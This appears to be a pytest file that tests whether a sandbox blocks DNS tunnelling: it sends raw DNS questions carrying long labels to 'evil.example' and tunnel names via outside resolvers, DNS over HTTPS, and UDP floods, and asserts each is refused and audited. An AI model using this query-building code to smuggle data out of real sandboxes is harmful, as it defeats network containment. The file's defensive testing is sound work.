"""D4: carrying data out in questions about names, and asking others than our resolver."""

import pytest

NARROW = {"allow_out": ["example.com"], "deny_out": ["0.0.0.0/0"]}

ASK = r"""
import json, socket, struct, sys
def question(name, kind, extra=b""):
    labels = b"".join(bytes([len(l)]) + l for l in (p.encode() for p in name.split("."))) + b"\0"
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, 1) + extra
def udp(server, data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(data, (server, 53))
        answer = s.recv(4096)
        return answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
def tcp(server, data):
    with socket.create_connection((server, 53), 2) as s:
        s.settimeout(2)
        s.sendall(struct.pack(">H", len(data)) + data)
        size = struct.unpack(">H", s.recv(2))[0]
        answer = s.recv(size)
        return answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
print(json.dumps([{ways}]))
"""

LONG = "a" * 60 + "." + "b" * 60 + "." + "c" * 60
KINDS = {"A": 1, "NS": 2, "NULL": 10, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "HTTPS": 65, "ANY": 255, "AXFR": 252, "private": 65280}


@pytest.mark.parametrize("way", ["udp", "tcp"])
@pytest.mark.parametrize("server", ["192.0.0.1", "8.8.8.8", "1.1.1.1", "9.9.9.9"])
def test_names_that_nothing_allows_are_asked_of_nobody(create, inside, audit, world, way, server):
    sandbox, heard = create(network=NARROW), world.mark()
    names = [f"{LONG}.evil.example", "x.tunnel.example.com", "secret.example.com", "EVIL.example"]
    ways = ", ".join(f'{way}("{server}", question("{name}", {kind}))' for name in names for kind in (1, 16, 28))
    answers = inside(sandbox, ASK.replace("{ways}", ways))
    assert all(code in (3, 5) and count == 0 for code, count in answers), answers
    assert heard("question") == []
    assert audit.denied(sandbox, lambda entry: entry["protocol"] == "dns" and "evil.example" in (entry["name"] or "").lower())


@pytest.mark.parametrize("kind", KINDS)
def test_an_allowed_name_gives_addresses_and_nothing_else(create, inside, world, kind):
    sandbox, heard = create(network=NARROW), world.mark()
    [[code, count]] = inside(sandbox, ASK.replace("{ways}", f'udp("8.8.8.8", question("example.com", {KINDS[kind]}))'))
    if kind == "A":
        assert (code, count) == (0, 1)
    else:
        assert count == 0 and code in (0, 3, 5), (code, count)
    assert {hit["type"] for hit in heard("question")} <= {1, 28}


@pytest.mark.parametrize("url", ["https://1.1.1.1/dns-query?name=evil.example", "https://8.8.8.8/resolve?name=evil.example", "https://9.9.9.9:8443/"])
def test_name_servers_over_https_are_closed_to_a_closed_policy(create, refused, url):
    refused(create(network=NARROW), url)


@pytest.mark.parametrize("to", ["('1.1.1.1', 853)", "('8.8.8.8', 784)", "('224.0.0.251', 5353)", "('224.0.0.252', 5355)", "('8.8.8.8', 5353)", "('1.1.1.1', 443)"])
def test_datagrams_go_nowhere(create, inside, audit, to):
    sandbox = create()
    program = f"""
import errno, json, socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
began = time.monotonic()
try:
    s.sendto(b"data", {to})
    said = "sent"
except OSError as error:
    said = errno.errorcode[error.errno]
print(json.dumps([said, time.monotonic() - began]))
"""
    said, seconds = inside(sandbox, program)
    assert said in ("EPERM", "ENETUNREACH", "EACCES") and seconds < 0.5, (said, seconds)


def test_a_flood_of_questions_meets_its_ceiling(create, inside, audit):
    sandbox = create()
    ways = "*[udp('9.9.9.9', question(f'n{n}.example.com', 1)) for n in range(600)]"
    answers = inside(sandbox, ASK.replace("{ways}", ways), timeout=60)
    assert sum(code == 5 for code, _ in answers) > 100, "beyond the burst they are refused"
    assert audit.denied(sandbox, lambda entry: entry["rule"] == "too_many")
